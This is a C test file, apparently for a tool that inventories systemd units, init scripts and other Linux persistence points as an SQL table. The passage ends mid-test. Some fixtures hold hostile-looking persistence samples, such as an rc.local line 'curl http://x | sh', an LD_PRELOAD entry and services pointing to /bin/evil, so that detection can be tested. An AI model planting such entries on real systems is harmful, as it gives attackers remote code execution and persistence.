#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "formats/text/buffer.h"
#include "harness.h"
#include "linux/units/unit_search.h"
#include "systemd_box.h"

static const char *dir; /* a root, then in it what a test writes */

static void new_root(void)
{
    dir = harness_scratch();
    harness_write_text(dir, "etc/passwd",
                       "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:\n");
    harness_write_text(dir, "etc/hostname", "dead\n");
}

static void unit(const char *path, const char *text)
{
    harness_write_text(dir, path, text);
}

/* A file that may be run. */
static void script(const char *path, const char *text)
{
    char full[4096];

    unit(path, text);
    snprintf(full, sizeof full, "%s/%s", dir, path);
    ck_assert(chmod(full, 0755) == 0);
}

/* The rows of a query on this root, where it says ROOT. */
static void expect(const char *expected, const char *sql)
{
    sqlite3    *db = harness_open();
    char        text[8192];
    const char *mark = strstr(sql, "ROOT");

    snprintf(text, sizeof text, "%.*sunit_files('%s')%s", (int)(mark - sql), sql, dir, mark + 4);
    harness_expect(db, expected, "%s", text);
    harness_close(db);
}

/* Kinds ----------------------------------------------------------------------- */

START_TEST(every_kind_of_file_in_a_unit_directory_is_shown)
{
    new_root();
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    unit("etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStart=\nExecStart=/bin/b\n");
    unit("etc/systemd/system/a.service.d/x.conf~", "");
    unit("etc/systemd/system/README", "hello");
    unit("etc/systemd/system/empty.service", "");
    harness_link(dir, "etc/systemd/system/b.service", "a.service");
    harness_link(dir, "etc/systemd/system/m.service", "/dev/null");
    harness_link(dir, "etc/systemd/system/multi-user.target.wants/a.service", "../a.service");
    expect(
        "README|other|NULL\na.service|dependency-link|multi-user.target\na.service|unit|a.service\n"
        "b.service|link|b.service\nempty.service|mask|empty.service\nm.service|mask|m.service\n"
        "x.conf|drop-in|a.service\nx.conf~|other|a.service",
        "SELECT name, kind, unit FROM ROOT WHERE name <> '.keep' ORDER BY name, kind");
}
END_TEST

START_TEST(what_is_beside_the_unit_path_is_shown)
{
    new_root();
    unit("etc/systemd/system-generators/gen", "#!/bin/sh\n");
    script("etc/init.d/old", "#!/bin/sh\n");
    harness_link(dir, "etc/rc2.d/S01old", "../init.d/old");
    unit("etc/rc.local", "#!/bin/sh\n");
    unit("usr/share/dbus-1/system-services/x.y.service",
         "[D-BUS Service]\nExec=/bin/evil\nUser=root\n");
    unit("etc/containers/systemd/web.container", "[Container]\nImage=x\nExec=run it\n");
    unit("var/lib/systemd/linger/ann", "");
    unit("etc/xinetd.d/echo", "service echo\n{\n}\n");
    unit("etc/systemd/system.conf.d/env.conf", "[Manager]\nDefaultEnvironment=A=1\n");
    unit("etc/environment.d/ld.conf", "LD_PRELOAD=/x.so\n");
    unit("etc/systemd/user-generators/ugen", "");
    expect("dbus|system|x.y.service|/bin/evil\nenvironment|user|ld.conf|NULL\n"
           "generator|system|gen|/etc/systemd/system-generators/gen\n"
           "generator|user|ugen|/etc/systemd/user-generators/ugen\nlinger|system|ann|NULL\n"
           "manager-config|system|env.conf|NULL\nquadlet|system|web.container|run it\n"
           "rc|system|S01old|/etc/rc2.d/S01old\nrc|system|rc.local|/etc/rc.local\n"
           "sysv|system|old|/etc/init.d/old\nxinetd|system|echo|NULL",
           "SELECT kind, scope, name, exec_start FROM ROOT WHERE name <> '.keep' "
           "ORDER BY kind, scope, name");
}
END_TEST

START_TEST(scripts_and_generators_have_states)
{
    new_root();
    unit("etc/systemd/system-generators/on", "#!/bin/sh\n");
    unit("etc/systemd/system-generators/off", "#!/bin/sh\n");
    unit("usr/lib/systemd/system-generators/off", "#!/bin/sh\n");
    harness_link(dir, "etc/systemd/system-generators/no", "/dev/null");
    unit("usr/lib/systemd/system-generators/no", "#!/bin/sh\n");
    char path[4096];
    snprintf(path, sizeof path, "%s/etc/systemd/system-generators/on", dir);
    chmod(path, 0755);
    script("etc/init.d/run", "");
    script("etc/init.d/rest", "");
    harness_link(dir, "etc/rc3.d/S02run", "../init.d/run");
    harness_link(dir, "etc/rc3.d/K02rest", "../init.d/rest");
    expect(
        "K02rest|disabled|NULL\nS02run|enabled|NULL\nno|masked|NULL\n"
        "no|NULL|/etc/systemd/system-generators/no\noff|disabled|NULL\n"
        "off|NULL|/etc/systemd/system-generators/off\non|enabled|NULL\nrest|disabled|NULL\n"
        "run|enabled|NULL",
        "SELECT name, state, shadowed_by FROM ROOT WHERE kind IN ('generator', 'sysv', 'rc') AND "
        "name <> '.keep' ORDER BY name, rank");
}
END_TEST

START_TEST(hooks_and_runlevels_of_other_inits_are_shown)
{
    new_root();
    unit("usr/lib/systemd/system-sleep/wake", "#!/bin/sh\n");
    script("etc/init.d/sshd", "#!/sbin/openrc-run\n");
    script("etc/init.d/idle", "#!/sbin/openrc-run\n");
    harness_link(dir, "etc/runlevels/default/sshd", "/etc/init.d/sshd");
    expect(
        "hook|wake|disabled|/usr/lib/systemd/system-sleep/wake\n"
        "rc|sshd|enabled|/etc/runlevels/default/sshd\nsysv|idle|disabled|/etc/init.d/idle\n"
        "sysv|sshd|enabled|/etc/init.d/sshd",
        "SELECT kind, name, state, exec_start FROM ROOT WHERE name <> '.keep' ORDER BY kind, name");
}
END_TEST

START_TEST(a_named_kind_is_all_there_is)
{
    new_root();
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    script("etc/init.d/old", "");
    expect("a.service", "SELECT name FROM ROOT WHERE kind = 'unit'");
    expect("old", "SELECT name FROM ROOT WHERE kind IN ('sysv', 'mask')");
    expect("a.service\nold", "SELECT name FROM ROOT WHERE kind IN ('sysv', 'unit')");
}
END_TEST

START_TEST(files_of_lines_show_them)
{
    new_root();
    unit("etc/environment.d/ld.conf", "# no\n\n  LD_PRELOAD=/x.so\nB=1\n");
    unit("etc/xinetd.d/echo", "service echo\n{\n\tserver = /bin/evil\n}\n");
    unit("etc/rc.local", "#!/bin/sh\ncurl http://x | sh\n");
    expect("environment|LD_PRELOAD=/x.so\nB=1\nrc|curl http://x | sh\n"
           "xinetd|service echo\n{\nserver = /bin/evil\n}",
           "SELECT kind, settings FROM ROOT ORDER BY kind");
    expect("environment|NULL\nrc|curl http://x | sh\nxinetd|service echo\n{\nserver = /bin/evil\n}",
           "SELECT kind, commands FROM ROOT ORDER BY kind");
}
END_TEST

/* Precedence ------------------------------------------------------------------ */

START_TEST(a_file_of_higher_rank_shadows_those_below)
{
    new_root();
    unit("usr/lib/systemd/system/a.service", "[Service]\nExecStart=/bin/vendor\n");
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/own\n");
    unit("run/systemd/transient/a.service", "[Service]\nExecStart=/bin/run\n");
    expect("/run/systemd/transient/a.service|NULL|/bin/run\n"
           "/etc/systemd/system/a.service|/run/systemd/transient/a.service|/bin/own\n"
           "/usr/lib/systemd/system/a.service|/run/systemd/transient/a.service|/bin/vendor",
           "SELECT path, shadowed_by, exec_start FROM ROOT ORDER BY rank");
}
END_TEST

START_TEST(drop_ins_of_one_name_shadow_each_other)
{
    new_root();
    unit("usr/lib/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    unit("usr/lib/systemd/system/a.service.d/x.conf", "[Service]\nUser=vendor\n");
    unit("etc/systemd/system/a.service.d/x.conf", "[Service]\nUser=own\n");
    expect(
        "/etc/systemd/system/a.service.d/x.conf|NULL|own\n"
        "/usr/lib/systemd/system/a.service|NULL|own\n"
        "/usr/lib/systemd/system/a.service.d/x.conf|/etc/systemd/system/a.service.d/x.conf|vendor",
        "SELECT path, shadowed_by, user FROM ROOT ORDER BY rank, path");
}
END_TEST

START_TEST(a_merged_usr_is_read_once)
{
    new_root();
    unit("usr/lib/systemd/system/a.service", "");
    harness_link(dir, "lib", "usr/lib");
    expect("/usr/lib/systemd/system/a.service", "SELECT path FROM ROOT WHERE name = 'a.service'");
    unit("var/lib/dpkg/info/systemd.list", "/.\n/lib\n/lib/systemd/system\n/usr\n");
    expect("/lib/systemd/system/a.service", "SELECT path FROM ROOT WHERE name = 'a.service'");
}
END_TEST

START_TEST(directories_of_the_running_manager_come_first)
{
    static const char environment[] = "A=b\0SYSTEMD_UNIT_PATH=/opt/units:/srv/units:\0C=d";

    new_root();
    harness_write(dir, "proc/1/environ", environment, sizeof environment);
    unit("opt/units/a.service", "[Service]\nExecStart=/opt/a\n");
    unit("srv/units/a.service", "[Service]\nExecStart=/srv/a\n");
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    expect("0|/opt/units/a.service|NULL\n1|/srv/units/a.service|/opt/units/a.service\n"
           "6|/etc/systemd/system/a.service|/opt/units/a.service",
           "SELECT rank, path, shadowed_by FROM ROOT");
}
END_TEST

START_TEST(settings_in_force_include_every_drop_in)
{
    new_root();
    unit("etc/systemd/system/a-b.service",
         "[Unit]\nDescription=old\n[Service]\nExecStart=/bin/a\n[Install]\nWantedBy=x.target\n");
    unit("etc/systemd/system/a-b.service.d/1.conf", "[Service]\nExecStart=\nExecStart=/bin/b\n");
    unit("etc/systemd/system/a-.service.d/2.conf", "[Service]\nExecStart=/bin/c\n");
    unit("etc/systemd/system/service.d/3.conf", "[Unit]\nDescription=new\n[Service]\nUser=eve\n");
    unit("etc/systemd/system/alias.service.d/0.conf", "[Service]\nExecStart=/bin/zero\n");
    harness_link(dir, "etc/systemd/system/alias.service", "a-b.service");
    expect("new|/bin/b\n/bin/c|eve|x.target",
           "SELECT description, exec_start, user, wanted_by FROM ROOT WHERE name = 'a-b.service'");
}
END_TEST

START_TEST(each_user_has_directories_of_their_own)
{
    new_root();
    unit("home/ann/.config/systemd/user/a.service", "[Service]\nExecStart=/home/ann/x\n");
    unit("home/lost/.local/share/systemd/user/b.service", "[Service]\nExecStart=/x\n");
    unit("run/user/1000/systemd/transient/run-u1.service", "[Service]\nExecStart=/y\n");
    unit("usr/lib/systemd/user/a.service", "[Service]\nExecStart=/bin/a\n");
    expect(
        "/home/ann/.config/systemd/user/a.service|ann|/home/ann/x|static\n"
        "/home/lost/.local/share/systemd/user/b.service|lost|/x|static\n"
        "/run/user/1000/systemd/transient/run-u1.service|ann|/y|transient\n"
        "/usr/lib/systemd/user/a.service|NULL|/bin/a|static",
        "SELECT path, scope_user, exec_start, state FROM ROOT WHERE scope = 'user' ORDER BY path");
}
END_TEST

/* Links ----------------------------------------------------------------------- */

START_TEST(links_that_leave_or_dangle_are_shown)
{
    new_root();
    unit("tmp/evil.service", "[Service]\nExecStart=/tmp/evil\n");
    unit("etc/systemd/system/in.service", "[Service]\nExecStart=/bin/in\n");
    harness_link(dir, "etc/systemd/system/evil.service", "/tmp/evil.service");
    harness_link(dir, "etc/systemd/system/gone.service", "../../../dev/shm/gone.service");
    harness_link(dir, "etc/systemd/system/alias.service", "in.service");
    harness_link(dir, "etc/systemd/system/mask.service", "/dev/null");
    harness_link(dir, "etc/systemd/system/up.service", "..");
    expect("alias.service|0|0|alias|/etc/systemd/system/in.service\n"
           "evil.service|1|0|linked|/tmp/evil.service\ngone.service|1|1|bad|NULL\n"
           "in.service|NULL|NULL|indirect|/etc/systemd/system/"
           "in.service\nmask.service|0|1|masked|NULL\nup.service|1|0|bad|/etc/systemd",
           "SELECT name, link_leaves, link_dangling, state, resolved_path FROM ROOT "
           "WHERE name <> '.keep' AND path GLOB '/etc/*.service' ORDER BY name");
}
END_TEST

START_TEST(a_link_out_of_the_root_stays_inside)
{
    new_root();
    harness_link(dir, "etc/systemd/system/out.service", "/../../../../../../etc/hostname");
    expect("out.service|1|0|/etc/hostname|1 line that systemd ignores; bad-setting: Service has no "
           "ExecStart=, ExecStop=, or SuccessAction=. Refusing.",
           "SELECT name, link_leaves, link_dangling, resolved_path, error FROM ROOT WHERE name = "
           "'out.service'");
}
END_TEST

START_TEST(what_starts_a_unit_is_shown_without_the_vendors_folders)
{
    new_root();
    unit("etc/systemd/system/a.service", "[Unit]\nWants=b.service\n[Service]\nExecStart=/a\n");
    unit("etc/systemd/system/b.service", "[Service]\nExecStart=/b\n");
    unit("etc/systemd/system/c.service", "[Service]\nExecStart=/c\n");
    unit("etc/systemd/system/d.service", "[Service]\nExecStart=/d\n");
    harness_link(dir, "usr/lib/systemd/system/multi-user.target.upholds/a.service", "../a.service");
    unit("etc/systemd/system/graphical.target.d/x.conf", "[Unit]\nWants=c.service\n");
    expect("a.service|[\"multi-user.target\"]\nb.service|[\"a.service\"]\n"
           "c.service|[\"graphical.target\"]\nd.service|NULL",
           "SELECT name, started_by FROM ROOT WHERE kind = 'unit' ORDER BY name");
    unit("usr/lib/systemd/libsystemd-shared-252.so", "");
    expect("NULL", "SELECT started_by FROM ROOT WHERE name = 'a.service' AND kind = 'unit'");
}
END_TEST

START_TEST(digests_are_of_what_a_link_leads_to)
{
    new_root();
    unit("etc/systemd/system/a.service", "abc");
    harness_link(dir, "etc/systemd/system/b.service", "a.service");
    expect("a.service|ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n"
           "b.service|ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
           "SELECT name, sha256 FROM ROOT WHERE name IN ('a.service', 'b.service') ORDER BY name");
}
END_TEST

START_TEST(packages_are_found_under_both_names_of_a_merged_usr)
{
    new_root();
    unit("usr/lib/systemd/system/a.service", "abc");
    unit("usr/lib/systemd/system/b.service", "abc");
    unit("usr/lib/systemd/system/c.service", "abc");
    harness_link(dir, "lib", "usr/lib");
    unit("var/lib/dpkg/status",
         "Package: foo\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n\n");
    unit("var/lib/dpkg/info/foo.list",
         "/.\n/lib\n/lib/systemd\n/lib/systemd/system\n/lib/systemd/system/a.service\n"
         "/lib/systemd/system/b.service\n");
    unit("var/lib/dpkg/info/foo.md5sums", "900150983cd24fb0d6963f7d28e17f72  lib/systemd/system/"
                                          "a.service\n00000000000000000000000000000000  "
                                          "lib/systemd/system/b.service\n");
    expect("a.service|foo|0\nb.service|foo|1\nc.service||NULL",
           "SELECT name, package, package_altered FROM ROOT WHERE kind = 'unit' ORDER BY name");
}
END_TEST

/* A host without packages and one with, in turn: the memory of one root is used for the next. */
START_TEST(packages_are_of_the_units_own_host)
{
    sqlite3    *db = harness_open();
    const char *scratch = harness_scratch();
    char        host[4096];

    for (int i = 0; i < 12; i++) {
        snprintf(host, sizeof host, "%s/h%02d", scratch, i);
        harness_write_text(host, "etc/os-release", "ID=debian\n");
        harness_write_text(host, "usr/lib/systemd/system/x.service", "[Service]\nExecStart=/x\n");
        if (i % 2 == 0)
            continue;
        harness_write_text(host, "var/lib/dpkg/status",
                           "Package: x\nStatus: install ok installed\nVersion: 1\n\n");
        harness_write_text(host, "var/lib/dpkg/info/x.list",
                           "/.\n/usr/lib/systemd/system/x.service\n");
    }
    harness_query(db, "DELETE FROM evidence");
    harness_query(db, "INSERT INTO evidence(location) VALUES('%s')", scratch);
    harness_expect(db, "6|6|6",
                   "SELECT count(*) FILTER (WHERE package IS NULL AND host GLOB 'h*[02468]'), "
                   "count(*) FILTER (WHERE package = 'x' AND host GLOB 'h*[13579]'), "
                   "count(DISTINCT host) / 2 FROM unit_files WHERE kind = 'unit'");
    harness_close(db);
}
END_TEST

/* Bad input ------------------------------------------------------------------- */

static char *filled(size_t size, char c)
{
    char *data = malloc(size + 1);

    memset(data, c, size);
    data[size] = '\0';
    return data;
}

START_TEST(bad_files_have_a_row_and_an_error)
{
    new_root();
    char *big = filled(10u << 20, '\n'), *nuls = filled(4096, '\0'), *line = filled(1u << 20, 'x');
    harness_write(dir, "etc/systemd/system/big.service", big, 10u << 20);
    harness_write(dir, "etc/systemd/system/nul.service", nuls, 4096);
    harness_write(dir, "etc/systemd/system/line.service", line, 1u << 20);
    free(big);
    free(nuls);
    free(line);
    unit("etc/systemd/system/cut.service", "[Service\nExecStart=/x\n");
    unit("etc/systemd/system/latin.service", "[Service]\nExecStart=/\xe4\n");
    harness_link(dir, "etc/systemd/system/loop.service", "pool.service");
    harness_link(dir, "etc/systemd/system/pool.service", "loop.service");
    char path[4096];
    snprintf(path, sizeof path, "%s/etc/systemd/system/fifo.service", dir);
    ck_assert(mkfifo(path, 0644) == 0);
#define NOTHING "bad-setting: Service has no ExecStart=, ExecStop=, or SuccessAction=. Refusing.\n"
    expect("big.service|unusually large for a unit file: 10485760 bytes; " NOTHING
           "cut.service|line 1: invalid section header; systemd reads no "
           "further\n"
           "fifo.service|not a regular file\n"
           "latin.service|line 2: not UTF-8; systemd reads no further\n"
           "line.service|line 1: line of 1 MiB or more; systemd reads no further\n"
           "loop.service|Too many levels of symbolic links\nnul.service|has NUL bytes; " NOTHING
           "pool.service|Too many levels of symbolic links",
           "SELECT name, error FROM ROOT WHERE name <> '.keep' ORDER BY name");
    expect("bad|5",
           "SELECT state, count(*) FROM ROOT WHERE name IN ('cut.service', 'latin.service', "
           "'line.service', 'loop.service', 'pool.service') AND state = 'bad'");
}
END_TEST

/* Make a folder of the root unreadable or readable again. */
static void set_mode(const char *path, mode_t mode)
{
    char full[4096];

    snprintf(full, sizeof full, "%s/%s", dir, path);
    ck_assert(chmod(full, mode) == 0);
}

START_TEST(a_directory_without_permission_is_counted)
{
    bool is_root = geteuid() == 0;

    new_root();
    unit("etc/systemd/system/a.service.d/x.conf", "");
    set_mode("", 0755);
    set_mode("..", 0711);
    set_mode("etc/systemd/system/a.service.d", 0);
    ck_assert(!is_root || seteuid(65534) == 0);
    sqlite3 *db = harness_open();
    harness_expect(db, "a.service.d|directory|Permission denied",
                   "SELECT name, kind, error FROM unit_files('%s') WHERE kind = 'directory'", dir);
    harness_expect(
        db,
        "1|directories not read: 1; homes not read: 0; files beyond the "
        "limit: 0",
        "SELECT skipped, detail FROM evidence_sources WHERE table_name = 'unit_files' AND "
        "location = '%s'",
        dir);
    harness_close(db);
    ck_assert(!is_root || seteuid(0) == 0);
    set_mode("etc/systemd/system/a.service.d", 0755);
}
END_TEST

START_TEST(a_root_without_units_is_absent)
{
    new_root();
    sqlite3 *db = harness_open();
    harness_expect(db, "", "SELECT path FROM unit_files('%s')", dir);
    harness_expect(
        db, "absent|no unit directory could be read",
        "SELECT status, detail FROM evidence_sources WHERE table_name = 'unit_files' AND "
        "location = '%s'",
        dir);
    harness_close(db);
}
END_TEST

START_TEST(an_ordinary_user_sees_what_was_closed)
{
    bool is_root = geteuid() == 0;

    new_root();
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    unit("home/ann/.config/systemd/user/b.service", "");
    set_mode("", 0755);
    set_mode("..", 0711);
    set_mode("home/ann", 0700);
    set_mode("etc/systemd/system/a.service", 0);
    ck_assert(!is_root || seteuid(65534) == 0);
    sqlite3 *db = harness_open();
    harness_expect(db, "/etc/systemd/system/a.service|Permission denied|NULL",
                   "SELECT path, error, state FROM unit_files('%s') WHERE path GLOB '/etc/*'", dir);
    harness_expect(db, is_root ? "2" : "1",
                   "SELECT skipped FROM evidence_sources WHERE table_name = 'unit_files' AND "
                   "location = '%s'",
                   dir);
    harness_close(db);
    ck_assert(!is_root || seteuid(0) == 0);
    set_mode("home/ann", 0755);
}
END_TEST

START_TEST(a_directory_that_breaks_off_is_damaged)
{
    new_root();
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    unit("etc/systemd/system/b.service", "[Service]\nExecStart=/bin/b\n");
    unit("etc/systemd/system/c.service", "[Service]\nExecStart=/bin/c\n");
    sqlite3 *db = harness_open();
    harness_break_readdir(4, EIO); /* of five, with "." and ".." */
    harness_expect(
        db, "/etc/systemd/system|Input/output error",
        "SELECT DISTINCT path, error FROM unit_files('%s') WHERE path = '/etc/systemd/system'",
        dir);
    harness_break_readdir(0, 0);
    harness_expect(db, "damaged|1",
                   "SELECT status, skipped FROM evidence_sources "
                   "WHERE table_name = 'unit_files' AND location = '%s'",
                   dir);
    harness_close(db);
}
END_TEST

START_TEST(a_users_link_to_anothers_file_is_denied_by_owner)
{
    char path[4096];

    if (geteuid() != 0)
        SKIP("needs root");
    new_root();
    unit("etc/passwd", "ann:x:1001:1001::/home/ann:/bin/sh\n");
    unit("etc/secret", "[Service]\nExecStart=/bin/secret\n");
    unit("home/ann/.config/systemd/user/own.service", "[Service]\nExecStart=/bin/own\n");
    harness_link(dir, "home/ann/.config/systemd/user/x.service", "/etc/secret");
    set_mode("etc/secret", 0600);
    snprintf(path, sizeof path, "%s/home/ann", dir);
    ck_assert_int_eq(chown(path, 1001, 1001), 0);
    sqlite3 *db = harness_open();
    harness_expect(db, "own.service|/bin/own|NULL|1\nx.service|NULL|denied by owner|0",
                   "SELECT name, exec_start, error, sha256 IS NOT NULL FROM unit_files('%s') "
                   "WHERE scope_user = 'ann' AND name <> '.keep' ORDER BY name",
                   dir);
    harness_expect(db, "1|1",
                   "SELECT skipped, detail GLOB '*denied by owner: 1' FROM evidence_sources "
                   "WHERE table_name = 'unit_files' AND location = '%s'",
                   dir);
    harness_close(db);
}
END_TEST

START_TEST(ten_thousand_drop_ins_take_no_more_than_their_share)
{
    char path[128];

    new_root();
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    for (int i = 0; i < 10000; i++) {
        snprintf(path, sizeof path, "etc/systemd/system/a.service.d/%05d.conf", i);
        unit(path, "[Service]\nEnvironment=A=1\n");
    }
    clock_t begin = clock();
    expect("10000|0", "SELECT count(*), count(shadowed_by) FROM ROOT WHERE kind = 'drop-in'");
    expect("/bin/a", "SELECT exec_start FROM ROOT WHERE name = 'a.service'");
    ck_assert_double_lt((double)(clock() - begin) / CLOCKS_PER_SEC, 5);
}
END_TEST

START_TEST(links_that_are_called_as_folders_are_not_lost)
{
    new_root();
    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
    unit("opt/d/x.conf", "[Service]\nUser=eve\n");
    harness_link(dir, "etc/systemd/system/a.service.d", "/opt/d");
    harness_link(dir, "etc/systemd/system/b.service.d", "/nowhere");
    harness_link(dir, "etc/systemd/system/c.service.wants", "a.service");
    harness_link(dir, "etc/systemd/system/d.service.d", "d.service.d");
    expect("a.service|unit|eve|NULL\nb.service.d|other|NULL|NULL\nc.service.wants|other|NULL|NULL\n"
           "d.service.d|directory|NULL|Too many levels of symbolic links\nx.conf|drop-in|eve|NULL",
           "SELECT name, kind, user, error FROM ROOT WHERE name <> '.keep' ORDER BY name");
    expect("/opt/d/x.conf", "SELECT path FROM ROOT WHERE kind = 'drop-in'");
}
END_TEST

/* Differences between versions of systemd depend on the library in the root. */
START_TEST(the_version_of_systemd_decides)
{
    static const struct {
        const char *library, *rows;
    } cases[] = {
        {"usr/lib/systemd/libsystemd-shared-252.22-1.fc38.so",
         "cut.service|disabled\nup.service|static\nx.service|static"},
        {"usr/lib/x86_64-linux-gnu/systemd/libsystemd-shared-257.so",
         "cut.service|static\nup.service|enabled"},
        {"usr/share/nothing",
         "a.service|static\ncut.service|static\nup.service|enabled\nx.service|static"},
        {"lib/systemd/libsystemd-shared-262.so",
         "a.service|static\ncut.service|static\nup.service|enabled"},
    };

    new_root();
    harness_write_text(dir, cases[_i].library, "");
    unit("etc/systemd/user/up.service", "[Service]\nExecStart=/x\n[Install]\nUpheldBy=a.target\n");
    harness_link(dir, "etc/systemd/user/a.target.upholds/up.service", "../up.service");
    unit("etc/systemd/user/cut.service", "[Install]\nWantedBy=a.target \"b\n");
    unit("etc/xdg/systemd/user/x.service", "[Service]\nExecStart=/x\n");
    unit("home/ann/.config/systemd/user.attached/a.service", "[Service]\nExecStart=/x\n");
    expect(cases[_i].rows, "SELECT name, state FROM ROOT WHERE kind = 'unit' ORDER BY name");
}
END_TEST

START_TEST(names_that_are_not_text_are_shown)
{
    new_root();
    unit("etc/systemd/system/\xff.service", "");
    expect("\xef\xbf\xbd.service|other", "SELECT name, kind FROM ROOT");
    unit("etc/systemd/system/\x80.service", "");
    unit("etc/systemd/system/a\xc3.service", "");
    expect("2", "SELECT count(*) FROM ROOT WHERE name = char(0xfffd) || '.service'");
    expect("1", "SELECT count(*) FROM ROOT WHERE name = 'a' || char(0xfffd) || '.service'");
}
END_TEST

/* Against systemd --------------------------------------------------------------- */

static char *lines_of(const char *command)
{
    FILE  *pipe = popen(command, "re");
    char  *text = NULL;
    size_t room = 0;

    ck_assert_ptr_nonnull(pipe);
    ck_assert_int_ge(getdelim(&text, &room, '\0', pipe), 0);
    ck_assert_int_eq(pclose(pipe), 0);
    return text;
}

static void expect_agreement(const char *systemctl, const char *where)
{
    char     command[512];
    sqlite3 *db = harness_open();

    snprintf(command, sizeof command,
             "%s list-unit-files --no-legend --no-pager --plain | awk '{print $1\"|\"$2}' | "
             "LC_ALL=C sort",
             systemctl);
    char *theirs = lines_of(command);
    theirs[strlen(theirs) - 1] = '\0';
    char *ours = harness_query(db,
                               "SELECT name, state FROM unit_files WHERE kind IN ('unit', 'link', "
                               "'mask') AND shadowed_by IS NULL AND %s ORDER BY name || '|'",
                               where);
    ck_assert_msg(strchr(ours, '\n') != NULL, "few rows: %s", ours);
    harness_expect(db, theirs,
                   "SELECT name, state FROM unit_files WHERE kind IN ('unit', 'link', "
                   "'mask') AND shadowed_by IS NULL AND %s ORDER BY name || '|'",
                   where);
    free(ours);
    free(theirs);
    harness_close(db);
}

/* One unit file of each kind of [Install], in a directory. */
static void write_units(const char *where)
{
    systemd_shell(
        "mkdir -p %s && cd %s && "
        "for n in plain other twice gone; do printf '[Service]\\nExecStart=/bin/true\\n"
        "[Install]\\nWantedBy=multi-user.target\\n' > $n.service; done; "
        "printf '[Service]\\nExecStart=/bin/true\\n' > still.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nAlias=nick.service "
        "nock.service\\n' > named.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nAlso=plain.service\\n' > "
        "also.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nAlso=no-unit\\n' > "
        "badalso.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=getty.target\\n"
        "DefaultInstance=one\\n' > many@.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=getty.target\\n' > "
        "more@.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nRequiredBy=a.target\\n"
        "RequiredBy=\\n' > reset.service; "
        "printf '[Timer]\\nOnBootSec=1h\\n[Install]\\nWantedBy=timers.target\\n' > t.timer; "
        "printf '[Service\\nExecStart=/bin/true\\n' > broken.service; "
        "printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nUpheldBy=a.target\\n' > "
        "upheld.service; cp upheld.service held.service; "
        "printf '[Mount]\\nWhat=a\\nWhere=/a\\n' > a@b.mount; : > nothing.service",
        where, where);
}

/* The folders of a manager, in order, a line each; those that are another's again once. */
static char *folders_of(enum unit_scope scope, const char *user, const char *but)
{
    struct root         *root;
    struct unit_managers managers;
    struct unit_search  *search;
    struct buffer        text = {0};
    size_t               k = 0;

    ck_assert_int_eq(root_open("/", 0, &root), 0);
    ck_assert_int_eq(unit_managers_list(root, &managers), 0);
    while (k < managers.n && (managers.managers[k].scope != scope ||
                              (user && strcmp(managers.managers[k].user, user) != 0)))
        k++;
    ck_assert_uint_lt(k, managers.n);
    ck_assert_int_eq(unit_search_open(&search, root, &managers.managers[k]), 0);
    for (size_t i = 0; i < search->n_dirs; i++)
        if (!search->dirs[i].twin && strcmp(search->dirs[i].path, but) != 0)
            buffer_printf(&text, "%s\n", search->dirs[i].path);
    unit_search_free(search);
    unit_managers_free(&managers);
    root_unref(root);
    ck_assert_ptr_nonnull(buffer_text(&text));
    return text.data;
}

#define UNIT_PATHS(who, how)                                                                       \
    who " systemd-analyze " how " unit-paths | while read -r d; do "                               \
        "r=$(readlink -m \"$d\"); case \" $seen \" in *\" $r \"*) continue;; esac; "               \
        "seen=\"$seen $r\"; echo \"$d\"; done"
#define TESTER                                                                                     \
    "setpriv --reuid=1234 --regid=1234 --clear-groups env XDG_RUNTIME_DIR=/run/user/1234 "         \
    "HOME=/home/tester"

START_TEST(the_folders_are_those_of_systemd_analyze)
{
    ENTER();
    systemd_shell("mkdir -p /home/tester/.config");
    char *system = folders_of(UNIT_SYSTEM, NULL, ""), *user = folders_of(UNIT_USER, "tester", ""),
         *global = folders_of(UNIT_GLOBAL, NULL, "/etc/xdg/systemd/user");
    char *system_paths = lines_of(UNIT_PATHS("", "--system")),
         *user_paths = lines_of(UNIT_PATHS(TESTER, "--user")),
         *global_paths = lines_of(UNIT_PATHS("", "--global"));
    ck_assert_str_eq(system, system_paths);
    ck_assert_str_eq(user, user_paths);
    ck_assert_str_eq(global, global_paths);
    free(system);
    free(user);
    free(global);
    free(system_paths);
    free(user_paths);
    free(global_paths);
}
END_TEST

START_TEST(states_agree_as_booted)
{
    ENTER();
    expect_agreement("systemctl", "scope = 'system'");
    expect_agreement("systemctl --global", "scope = 'user' AND scope_user IS NULL");
}
END_TEST

START_TEST(states_agree_after_what_systemctl_does)
{
    ENTER();
    write_units("/etc/systemd/system");
    write_units("/run/elsewhere");
    systemd_shell("cd /run/elsewhere && for f in *; do mv $f far-$f; done");
    systemd_shell("systemctl -q daemon-reload; systemctl -q enable plain.service named.service "
                  "many@.service more@x.service t.timer");
    systemd_shell("systemctl -q enable --runtime other.service; systemctl -q mask still2.service; "
                  "systemctl -q enable upheld.service || true");
    systemd_shell("systemctl -q mask --runtime twice2.service");
    systemd_shell("systemctl -q link /run/elsewhere/far-plain.service "
                  "/run/elsewhere/far-still.service /run/elsewhere/far-many@.service");
    systemd_shell("systemctl -q link --runtime /run/elsewhere/far-twice.service "
                  "/run/elsewhere/far-named.service");
